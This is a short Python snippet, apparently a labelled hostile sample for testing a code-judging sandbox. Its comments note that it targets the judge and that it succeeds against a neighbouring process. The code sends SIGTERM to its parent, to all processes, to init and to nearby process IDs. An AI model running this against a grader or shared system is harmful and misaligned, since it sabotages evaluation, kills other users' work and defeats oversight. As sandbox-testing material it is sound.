# tries: signal the parent, the judge and everybody
# place: first
# works: neighbour
# stock: unsafe
import os, signal
for pid in [os.getppid(), -1, 0, 1] + list(range(os.getpid() - 20, os.getpid())):
    if pid in (0, os.getpid()): continue
    try: os.kill(pid, signal.SIGTERM)
    except OSError: pass
